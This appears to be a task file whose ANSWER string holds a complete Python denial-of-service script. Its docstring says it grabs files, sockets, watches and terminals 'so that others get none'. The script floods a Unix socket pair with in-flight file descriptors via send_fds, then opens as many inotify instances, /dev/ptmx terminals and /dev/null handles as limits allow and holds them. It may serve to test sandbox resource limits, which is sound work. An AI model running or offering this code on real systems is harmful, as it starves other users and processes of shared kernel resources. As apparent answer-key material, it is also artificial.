"""Opens as many files, sockets, watches and terminals as it gets, and sends them to itself, so that others get none."""

ANSWER = """
import array, ctypes, os, socket, time

libc = ctypes.CDLL(None, use_errno=True)
kept, counts = [], {}
one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
for _ in range(400):
    try:
        socket.send_fds(one, [b"x"], [other.fileno()] * 200, 0x40)
        counts["sent"] = counts.get("sent", 0) + 200
    except OSError:
        break
for name, make in {"watches": lambda: libc.inotify_init1(0), "terminals": lambda: os.open("/dev/ptmx", os.O_RDWR),
                   "files": lambda: os.open("/dev/null", os.O_RDONLY)}.items():
    for _ in range(200):
        try:
            if (fd := make()) < 0:
                break
        except OSError:
            break
        kept.append(fd)
    counts[name] = len(kept)
print(counts)
time.sleep(2)
"""
